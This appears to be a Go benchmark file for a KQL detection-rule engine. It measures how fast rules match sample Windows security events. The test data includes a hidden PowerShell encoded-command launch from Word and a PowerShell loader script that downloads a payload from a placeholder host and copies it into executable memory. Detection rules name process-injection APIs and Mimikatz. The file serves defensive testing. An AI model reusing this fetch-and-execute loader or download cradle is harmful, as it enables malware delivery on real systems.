package kql

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/vigilsec/vigil/event"
	"github.com/vigilsec/vigil/match"
)

// A process start event as Elastic Defend ships it (trimmed).
const benchProcessEvent = `{"@timestamp":"2024-03-15T12:30:00.123Z","event":{"category":["process"],"type":["start"],"action":"start","kind":"event","module":"endpoint","dataset":"endpoint.events.process"},"host":{"name":"ws-042","os":{"type":"windows","family":"windows"}},"user":{"name":"alice","domain":"CORP","id":"S-1-5-21-1-2-3-1104"},"process":{"pid":4242,"entity_id":"abc","name":"powershell.exe","executable":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","command_line":"powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA","args":["powershell.exe","-NoP","-W","Hidden","-enc","SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"],"parent":{"name":"winword.exe","executable":"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE","pid":1000}}}`

// benchKeywordRule is a typical KQL rule condition on keyword fields.
const benchKeywordRule = `event.category:process and host.os.type:windows and event.type:start and
  process.name:(powershell.exe or pwsh.exe or powershell_ise.exe) and
  process.args:(-enc or -encodedcommand or -e or *-EncodedCommand*) and
  process.parent.name:(winword.exe or excel.exe or outlook.exe or powerpnt.exe) and
  not user.name:(SYSTEM or "LOCAL SERVICE") and not process.parent.executable:C\:\\Windows\\CCM\\*`

func compileBench(b *testing.B, query, doc string) (match.Pred, *event.Event) {
	b.Helper()
	s := event.NewSchema()
	p, err := CompileQuery(query, s, Options{})
	if err != nil {
		b.Fatal(err)
	}
	ev := &event.Event{}
	if err := s.Decode([]byte(doc), ev); err != nil {
		b.Fatal(err)
	}
	if !p.Match(ev) {
		b.Fatal("the benchmark query does not match its event")
	}
	return p, ev
}

// BenchmarkKeywordRule matches a typical rule against a decoded event
// (the hot path: it must not allocate).
func BenchmarkKeywordRule(b *testing.B) {
	p, ev := compileBench(b, benchKeywordRule, benchProcessEvent)
	b.ReportAllocs()
	for b.Loop() {
		p.Match(ev)
	}
}

// benchScript is a 2 KB PowerShell script block.
var benchScript = func() string {
	s := `function Invoke-Thing {
    [CmdletBinding()] param([string]$Path = "$env:TEMP\payload.bin", [int]$Retries = 3)
    $ErrorActionPreference = 'SilentlyContinue'
    $wc = New-Object System.Net.WebClient
    $wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)')
    for ($i = 0; $i -lt $Retries; $i++) {
        try { $bytes = $wc.DownloadData('https://example.invalid/a.bin'); break } catch { Start-Sleep -Seconds 5 }
    }
    $asm = [System.Reflection.Assembly]::Load($bytes)
    $kernel32 = Add-Type -MemberDefinition '[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d);' -Name K -PassThru
    $mem = $kernel32::VirtualAlloc([IntPtr]::Zero, $bytes.Length, 0x3000, 0x40)
    [System.Runtime.InteropServices.Marshal]::Copy($bytes, 0, $mem, $bytes.Length)
    Write-Verbose "copied $($bytes.Length) bytes to $mem"
}
`
	var b strings.Builder
	for b.Len() < 2048 {
		b.WriteString(s)
	}
	return b.String()[:2048]
}()

func scriptEvent(b *testing.B) string {
	doc, err := json.Marshal(map[string]any{
		"event":      map[string]any{"code": "4104", "category": "process"},
		"host":       map[string]any{"os": map[string]any{"type": "windows"}},
		"powershell": map[string]any{"file": map[string]any{"script_block_text": benchScript}},
	})
	if err != nil {
		b.Fatal(err)
	}
	return string(doc)
}

// BenchmarkTextPhrases matches a list of phrases on a 2 KB script block,
// the shape of Elastic's PowerShell rules; the script is tokenized once.
func BenchmarkTextPhrases(b *testing.B) {
	p, ev := compileBench(b, `event.category:process and host.os.type:windows and
  powershell.file.script_block_text:("WriteProcessMemory" or "CreateRemoteThread" or "NtCreateThreadEx" or
    "QueueUserAPC" or "SuspendThread" or "ResumeThread" or "OpenProcessToken" or "VirtualAllocEx" or
    "System.Runtime.InteropServices.Marshal" or "Invoke-Thing")`, scriptEvent(b))
	b.SetBytes(int64(len(benchScript)))
	b.ReportAllocs()
	for b.Loop() {
		p.Match(ev)
	}
}

// BenchmarkTextNoMatch is the common case: a script that holds none of
// the phrases, so every token is looked at.
func BenchmarkTextNoMatch(b *testing.B) {
	s := event.NewSchema()
	p, err := CompileQuery(`powershell.file.script_block_text:("WriteProcessMemory" or "CreateRemoteThread" or
    "NtCreateThreadEx" or "QueueUserAPC" or "SuspendThread" or "ResumeThread" or "Invoke-Mimikatz")`, s, Options{})
	if err != nil {
		b.Fatal(err)
	}
	ev := &event.Event{}
	if err := s.Decode([]byte(scriptEvent(b)), ev); err != nil {
		b.Fatal(err)
	}
	if p.Match(ev) {
		b.Fatal("matches")
	}
	b.SetBytes(int64(len(benchScript)))
	b.ReportAllocs()
	for b.Loop() {
		p.Match(ev)
	}
}

// BenchmarkTextSinglePhrase is one phrase (no map), no match.
func BenchmarkTextSinglePhrase(b *testing.B) {
	s := event.NewSchema()
	p, err := CompileQuery(`powershell.file.script_block_text:"Invoke-Mimikatz"`, s, Options{})
	if err != nil {
		b.Fatal(err)
	}
	ev := &event.Event{}
	if err := s.Decode([]byte(scriptEvent(b)), ev); err != nil {
		b.Fatal(err)
	}
	b.SetBytes(int64(len(benchScript)))
	b.ReportAllocs()
	for b.Loop() {
		p.Match(ev)
	}
}

// BenchmarkCompileCorpusQuery compiles a typical rule query.
func BenchmarkCompile(b *testing.B) {
	n, err := Parse(benchKeywordRule)
	if err != nil {
		b.Fatal(err)
	}
	s := event.NewSchema()
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Compile(n, s, Options{}); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkCorpusRules matches every KQL rule of the corpus (query and
// filters) against a process event and a PowerShell script block event:
// the cost of one event offered to all rules, without routing.
func BenchmarkCorpusRules(b *testing.B) {
	_, _, rules := corpusQueries(b)
	s := event.NewSchema()
	var preds []match.Pred
	for _, r := range rules {
		if r == nil {
			continue
		}
		p, err := CompileFiltered(r.Query, r.Filters, s, Options{})
		if err != nil {
			b.Fatal(err)
		}
		preds = append(preds, p)
	}
	evs := make([]*event.Event, 2)
	for i, doc := range []string{benchProcessEvent, scriptEvent(b)} {
		evs[i] = &event.Event{}
		if err := s.Decode([]byte(doc), evs[i]); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportAllocs()
	for b.Loop() {
		for _, ev := range evs {
			for _, p := range preds {
				p.Match(ev)
			}
		}
	}
	b.ReportMetric(float64(len(preds)), "rules")
}
